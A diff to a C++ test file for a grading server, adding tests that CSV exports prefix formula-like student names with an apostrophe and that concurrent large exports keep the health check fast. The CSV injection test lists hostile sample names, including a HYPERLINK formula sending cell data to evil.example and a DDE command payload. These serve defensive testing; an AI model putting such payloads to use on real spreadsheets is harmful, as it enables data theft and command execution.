@@ -5,13 +5,18 @@
 // scoped to the key. On SQLite and PostgreSQL.
 #include <gtest/gtest.h>
 
+#include <algorithm>
+#include <atomic>
+#include <chrono>
 #include <cstdio>
 #include <filesystem>
 #include <fstream>
+#include <thread>
 
 #include "csv_reader.h"
 #include "headgrader/report.h"
 #include "server_harness.h"
+#include "sqlite_connection.h"
 #include "store_test_support.h"
 #include "test_support.h"
 
@@ -38,6 +43,25 @@ std::string shell(const std::string& command, int* status = nullptr) {
   if (status != nullptr) *status = WIFEXITED(raw) ? WEXITSTATUS(raw) : -1;
   if (out.ends_with('\n')) out.pop_back();
   return out;
+}
+
+// GET `target` with no bound on the answer's size (an export of every record is larger than
+// the client's parser takes by default) and a minute's patience.
+HttpResponse get_whole(std::uint16_t port, const std::string& target, const std::string& key) {
+  net::io_context ioc;
+  tcp::socket socket(ioc);
+  socket.connect(tcp::endpoint(net::ip::address_v4::loopback(), port));
+  timeval timeout{60, 0};
+  ::setsockopt(socket.native_handle(), SOL_SOCKET, SO_RCVTIMEO, &timeout, sizeof timeout);
+  http::request<http::empty_body> request{http::verb::get, target, 11};
+  request.set(http::field::host, "localhost");
+  request.set(http::field::authorization, "Bearer " + key);
+  http::write(socket, request);
+  beast::flat_buffer buffer;
+  http::response_parser<http::string_body> parser;
+  parser.body_limit(boost::none);
+  http::read(socket, buffer, parser);
+  return parser.release();
 }
 
 class RecordRoutes : public ::testing::TestWithParam<Backend> {
@@ -289,6 +313,123 @@ TEST_P(RecordRoutes, IdempotencyKeysAreScopedToTheKeyAndLmsKeysAreCapped) {
   ASSERT_FALSE(again[http::field::retry_after].empty());
   EXPECT_LE(std::stoi(std::string(again[http::field::retry_after])),
             std::stoi(std::string(last[http::field::retry_after])));
+}
+
+TEST_P(RecordRoutes, CsvWritesFormulaStudentsWithALeadingApostrophe) {
+  const std::uint16_t port = start();
+  ASSERT_NE(port, 0);
+  const std::vector<std::string> names = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
+                                          "+cmd|' /C calc'!A0",
+                                          "-2+3",
+                                          "@SUM(1+1)",
+                                          "\t=1+1",
+                                          "\r=1+1",
+                                          "ada"};
+  for (const std::string& name : names) {
+    Json body = Json::parse(kWrongKey);
+    body["student"] = name;
+    ASSERT_EQ(grade(port, body.dump()).result(), http::status::ok) << name;
+  }
+  const HttpResponse csv = call(port, "GET", "/v1/submissions.csv", staff_);
+  ASSERT_EQ(csv.result(), http::status::ok);
+  const auto rows = testing_csv::parse_csv(csv.body());
+  ASSERT_EQ(rows.size(), names.size() + 1);
+  std::vector<std::string> students;
+  for (std::size_t i = 1; i < rows.size(); ++i) students.push_back(rows[i][3]);
+  for (const std::string& name : names) {
+    const std::string written = name == "ada" ? name : "'" + name;
+    EXPECT_NE(std::find(students.begin(), students.end(), written), students.end())
+        << "the student " << Json(name).dump() << " is not written as " << Json(written).dump()
+        << " in:\n"
+        << csv.body();
+  }
+  // No cell of any row starts a formula.
+  for (const auto& row : rows) {
+    for (const std::string& cell : row) {
+      EXPECT_TRUE(cell.empty() ||
+                  std::string_view("=+-@\t\r").find(cell.front()) == std::string_view::npos)
+          << Json(cell).dump();
+    }
+  }
+}
+
+// A large record, exported twice at once: the exports run off the io threads, so /healthz
+// stays fast (a generous bound: on the io threads it waited for the exports, seconds), and
+// the CSV written page by page holds every record, the same bytes in each export.
+TEST_P(RecordRoutes, TwoExportsOfALargeRecordLeaveHealthzFast) {
+  if (GetParam() != Backend::kSqlite) GTEST_SKIP() << "the record is filled with SQLite's SQL";
+  const std::uint16_t port = start({"--threads", "2"});
+  ASSERT_NE(port, 0);
+  ASSERT_EQ(grade(port, with_student(kWrongKey, "template")).result(), http::status::ok);
+  // 200 000 copies of that record, each with an id of its own, written directly.
+  constexpr int kRecords = 200000;
+  {
+    auto raw = store::SqliteConnection::open(db_->folder() / "store.db");
+    ASSERT_TRUE(raw) << raw.error().message;
+    auto columns = (*raw)->query("SELECT name FROM pragma_table_info('submissions')", {});
+    ASSERT_TRUE(columns) << columns.error().message;
+    std::string names, values;
+    for (const auto& row : *columns) {
+      const std::string name = *row[0];
+      names += (names.empty() ? "" : ",") + name;
+      values += values.empty() ? "" : ",";
+      values += name == "id"        ? "substr(id, 1, 12) || printf('%016x', n)"
+                : name == "student" ? "'s' || (n % 5000)"
+                                    : name;
+    }
+    ASSERT_TRUE((*raw)->exec_script(
+        "WITH RECURSIVE c(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM c WHERE n < " +
+        std::to_string(kRecords) + ") INSERT INTO submissions (" + names + ") SELECT " + values +
+        " FROM submissions, c"));
+  }
+  std::string exports[2];
+  std::thread exporters[2];
+  std::atomic<int> done{0};
+  for (int i = 0; i < 2; ++i) {
+    exporters[i] = std::thread([&, i] {
+      try {
+        const HttpResponse answer = get_whole(port, "/v1/submissions.csv", staff_);
+        if (answer.result() == http::status::ok) exports[i] = answer.body();
+      } catch (const std::exception&) {
+        // no answer: exports[i] stays empty and the test says so below
+      }
+      ++done;
+    });
+  }
+  auto slowest = std::chrono::steady_clock::duration::zero();
+  int asked = 0;
+  while (done.load() < 2) {
+    const auto before = std::chrono::steady_clock::now();
+    const HttpResponse health = call(port, "GET", "/healthz");
+    slowest = std::max(slowest, std::chrono::steady_clock::now() - before);
+    EXPECT_EQ(health.result(), http::status::ok);
+    ++asked;
+    std::this_thread::sleep_for(20ms);
+  }
+  for (auto& exporter : exporters) exporter.join();
+  EXPECT_GT(asked, 0);
+  EXPECT_LT(slowest, 1500ms)
+      << "/healthz waited "
+      << std::chrono::duration_cast<std::chrono::milliseconds>(slowest).count()
+      << " ms behind two exports";
+  ASSERT_FALSE(exports[0].empty());
+  EXPECT_EQ(exports[0], exports[1]);
+  const auto rows = testing_csv::parse_csv(exports[0]);
+  ASSERT_EQ(rows.size(), static_cast<std::size_t>(kRecords) + 2);  // the header and the template
+  EXPECT_EQ(rows[0][0], "id");
+  // The same rows as the pages of the paged CSV, one after the other.
+  std::string paged = "id,time,problem,student,key,passed,score,tests_total,tests_failed\r\n";
+  std::string cursor;
+  for (;;) {
+    const HttpResponse page = get_whole(
+        port, "/v1/submissions.csv?limit=1000" + (cursor.empty() ? "" : "&cursor=" + cursor),
+        staff_);
+    ASSERT_EQ(page.result(), http::status::ok);
+    paged += page.body().substr(page.body().find("\r\n") + 2);
+    cursor = std::string(page["X-Next-Cursor"]);
+    if (cursor.empty()) break;
+  }
+  EXPECT_TRUE(paged == exports[0]) << "the export differs from its pages";
 }
 
 INSTANTIATE_TEST_SUITE_P(Backends, RecordRoutes,
